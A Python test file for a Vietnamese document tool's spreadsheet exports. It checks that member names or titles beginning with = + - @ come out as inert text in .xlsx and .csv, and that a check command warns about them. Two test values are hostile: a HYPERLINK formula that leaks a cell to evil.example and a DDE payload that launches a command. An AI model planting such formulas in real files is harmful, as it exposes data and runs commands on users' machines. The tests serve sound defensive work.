"""Exports that cannot run (issue 20, finding 4): text beginning with = + - @ (a member's
name, a title) is written to .xlsx as text, never a formula, and neutralised in .csv as
OWASP's CSV Injection page says; ``docgen check`` warns about it, located."""

from __future__ import annotations

import csv
import io
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from docgen.celltext import csv_field, runs_as_formula
from docgen.cli import cli
from docgen.register import Entry, Register
from tests.conftest import edit_yaml, needs_calc, soffice_path

LEAK = '=HYPERLINK("http://evil.example/?leak="&C5,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
ROSTER = "chi-bo/to-dan-pho-5/dang-vien.yaml"


@pytest.mark.parametrize("text", [LEAK, DDE, "+1", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_runs_is_recognised(text: str) -> None:
    assert runs_as_formula(text)
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("value", ["Tạ Diệu Thảo", "a=b", " =x", 12, None, ""])
def test_other_values_are_left_alone(value: object) -> None:
    assert not runs_as_formula(value)
    assert csv_field(value) == value


@pytest.fixture
def hostile_ws(sample_ws: Path) -> Path:
    """The sample with a member named LEAK and another whose post is DDE."""
    edit_yaml(sample_ws / ROSTER, "ho_ten: Đinh Minh Hoa", f"ho_ten: '{LEAK.replace(chr(39), chr(39) * 2)}'")
    edit_yaml(sample_ws / ROSTER, "chuc_vu: Tổ trưởng tổ dân phố", f'chuc_vu: "{DDE}"')
    return sample_ws


def test_check_warns_about_them_located(hostile_ws: Path, runner: CliRunner) -> None:
    result = runner.invoke(cli, ["check", "-w", str(hostile_ws)])
    assert result.exit_code == 0, result.output
    lines = [line for line in result.stderr.splitlines() if "công thức" in line]
    roster = hostile_ws / ROSTER
    shown = str(roster.relative_to(Path.cwd())) if roster.is_relative_to(Path.cwd()) else str(roster)
    hint = "(docgen xuất ra Excel dạng chữ, không chạy; nếu không cố ý, bỏ ký tự đầu)"
    assert lines == [
        f"Cảnh báo: {shown}:12:14: dang_vien[1].chuc_vu: «{DDE}» bắt đầu bằng dấu Excel coi là công thức "
        f"(= + - @) {hint}",
        f"Cảnh báo: {shown}:14:13: dang_vien[2].ho_ten: «{LEAK}» bắt đầu bằng dấu Excel coi là công thức "
        f"(= + - @) {hint}",
    ]


def test_the_sample_gives_no_such_warning(sample_ws: Path, runner: CliRunner) -> None:
    """Narrow: the sample's free text ("- " bullets in prose) never warns."""
    result = runner.invoke(cli, ["check", "-w", str(sample_ws)])
    assert result.exit_code == 0, result.output
    assert "công thức" not in result.stderr


def _exported_roster(ws: Path, tmp_path: Path, runner: CliRunner) -> Path:
    target = tmp_path / "danh-sach.xlsx"
    result = runner.invoke(cli, ["roster", "export", "--chi-bo", "to-dan-pho-5", "-w", str(ws), "-o", str(target)])
    assert result.exit_code == 0, result.output
    return target


def test_roster_export_writes_them_as_text(hostile_ws: Path, tmp_path: Path, runner: CliRunner) -> None:
    """``roster export`` stored them as live formulas."""
    sheet = load_workbook(_exported_roster(hostile_ws, tmp_path, runner)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells[LEAK].data_type == "s"
    assert cells[DDE].data_type == "s"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_an_imported_formula_does_not_come_back_out_as_one(
    hostile_ws: Path, tmp_path: Path, runner: CliRunner
) -> None:
    """A formula text cell in an imported roster came back out as a live formula."""
    exported = _exported_roster(hostile_ws, tmp_path, runner)
    imported = runner.invoke(cli, ["roster", "import", str(exported), "--chi-bo", "to-dan-pho-5", "-w", str(hostile_ws)])
    assert imported.exit_code == 0, imported.output
    again = tmp_path / "lan-2.xlsx"
    runner.invoke(cli, ["roster", "export", "--chi-bo", "to-dan-pho-5", "-w", str(hostile_ws), "-o", str(again)])
    sheet = load_workbook(again).active
    assert LEAK in [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s"]
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@needs_calc
def test_libreoffice_reads_the_export_as_text(hostile_ws: Path, tmp_path: Path, runner: CliRunner) -> None:
    exported = _exported_roster(hostile_ws, tmp_path, runner)
    exe = soffice_path()
    assert exe is not None
    subprocess.run(
        [
            exe, f"-env:UserInstallation=file://{tmp_path / 'lo'}", "--headless",
            "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), str(exported),
        ],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO((tmp_path / "danh-sach.csv").read_text(encoding="utf-8"))))
    values = {value for row in rows for value in row}
    assert LEAK in values and DDE in values  # the text itself: not "Bấm vào đây", not an error


def _hostile_entries() -> list[Entry]:
    entry = Entry(
        co_quan="to-dan-pho-5", ten_co_quan=DDE, loai_van_ban="KH", nhiem_ky="2025-2030", so=1,
        ky_hieu="01-KH/CB", ngay_ban_hanh="2026-01-05", trich_yeu=LEAK, loai="ke-hoach",
        danh_tinh="x", tep="a.docx", sha256=None, sha256_mau=None, sha256_nguon=None, lan_cap=1,
        ghi_chu='=1+2";=1+2',
    )  # fmt: skip
    return [entry, replace(entry, so=2, trich_yeu="-2", ghi_chu="@SUM(A1)")]


def test_register_csv_neutralises_them(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """``register --csv`` wrote them raw. Now (OWASP): a ' in front, every field quoted."""
    monkeypatch.setattr(Register, "entries", lambda self: _hostile_entries())
    text = Register(tmp_path / "so.sqlite").to_csv()
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0]["trich_yeu"] == "'" + LEAK
    assert rows[0]["ten_co_quan"] == "'" + DDE
    assert rows[0]["ghi_chu"] == "'" + '=1+2";=1+2'
    assert rows[1]["trich_yeu"] == "'-2" and rows[1]["ghi_chu"] == "'@SUM(A1)"
    assert rows[0]["ky_hieu"] == "01-KH/CB"  # what cannot run keeps its text
    # OWASP's example: the field quoted, its quote doubled, so ";" starts no new cell
    assert '"\'=1+2"";=1+2"' in text
    for line in text.splitlines()[1:]:
        assert line.startswith('"') and line.endswith('"') and ',=' not in line and ',-' not in line


def test_register_xlsx_writes_them_as_text(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """``register --xlsx`` stored them as live formulas."""
    monkeypatch.setattr(Register, "entries", lambda self: _hostile_entries())
    sheet = load_workbook(io.BytesIO(Register(tmp_path / "so.sqlite").to_xlsx())).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row}
    assert cells[LEAK].data_type == "s" and cells[DDE].data_type == "s"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
